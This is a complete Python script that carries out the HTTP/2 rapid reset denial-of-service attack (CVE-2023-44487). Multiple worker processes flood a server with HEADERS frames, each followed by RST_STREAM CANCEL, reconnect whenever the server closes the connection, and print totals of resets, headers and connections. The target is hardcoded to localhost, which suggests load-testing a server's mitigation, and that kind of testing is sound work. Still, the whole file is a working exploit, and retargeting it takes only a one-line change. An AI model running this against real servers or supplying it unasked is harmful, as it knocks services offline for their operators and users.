#!/usr/bin/env python3
"""HTTP/2 rapid reset (CVE-2023-44487) load: each worker process opens
cleartext HTTP/2 connections (prior knowledge) and sends, as fast as it can,
HEADERS for a GET followed by RST_STREAM (CANCEL) for the same stream, in
batches; when the server closes the connection (GOAWAY, reset) it opens a
new one. Modes: `same` writes a batch's HEADERS and RST_STREAM frames in one
write (the server reads them together), `split` writes the batch's HEADERS,
then its resets in a second write (the server may start the streams first).

Prints one line: resets=N headers=N connections=N seconds=S.
   usage: rapid_reset.py --port P [--seconds 10] [--procs 2] [--mode same|split] [--batch 10]
"""
import argparse
import multiprocessing as mp
import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# GET http://a/ : static-table indexes, :authority as a literal without indexing.
BLOCK = bytes([0x82, 0x86, 0x84, 0x01, 0x01]) + b"a"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def worker(port, seconds, mode, batch, out):
    end = time.monotonic() + seconds
    resets = headers = conns = 0
    while time.monotonic() < end:
        try:
            s = socket.create_connection(("127.0.0.1", port))
        except OSError:
            continue
        conns += 1
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        s.setblocking(False)
        try:
            s.sendall(PREFACE + frame(0x4, 0, 0))
        except OSError:
            s.close()
            continue
        stream = 1
        alive = True
        while alive and time.monotonic() < end and stream < 2**31 - 2 * batch:
            ids = [stream + 2 * i for i in range(batch)]
            stream += 2 * batch
            hs = b"".join(frame(0x1, 0x5, i, BLOCK) for i in ids)
            rs = b"".join(frame(0x3, 0, i, struct.pack(">I", 8)) for i in ids)
            writes = [hs + rs] if mode == "same" else [hs, rs]
            try:
                for w in writes:
                    sent = 0
                    while sent < len(w):
                        try:
                            sent += s.send(w[sent:])
                        except BlockingIOError:
                            time.sleep(0.0005)
                            if time.monotonic() >= end:
                                break
                headers += batch
                resets += batch
                # Drain what the server sent; EOF means it closed.
                while True:
                    try:
                        got = s.recv(65536)
                    except BlockingIOError:
                        break
                    if not got:
                        alive = False
                        break
            except OSError:
                alive = False
        s.close()
    out.put((resets, headers, conns))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--seconds", type=float, default=10)
    ap.add_argument("--procs", type=int, default=2)
    ap.add_argument("--mode", choices=["same", "split"], default="same")
    ap.add_argument("--batch", type=int, default=10)
    a = ap.parse_args()
    out = mp.Queue()
    procs = [mp.Process(target=worker, args=(a.port, a.seconds, a.mode, a.batch, out)) for _ in range(a.procs)]
    for p in procs:
        p.start()
    totals = [0, 0, 0]
    for _ in procs:
        r = out.get()
        totals = [x + y for x, y in zip(totals, r)]
    for p in procs:
        p.join()
    print(f"resets={totals[0]} headers={totals[1]} connections={totals[2]} seconds={a.seconds}")


if __name__ == "__main__":
    main()
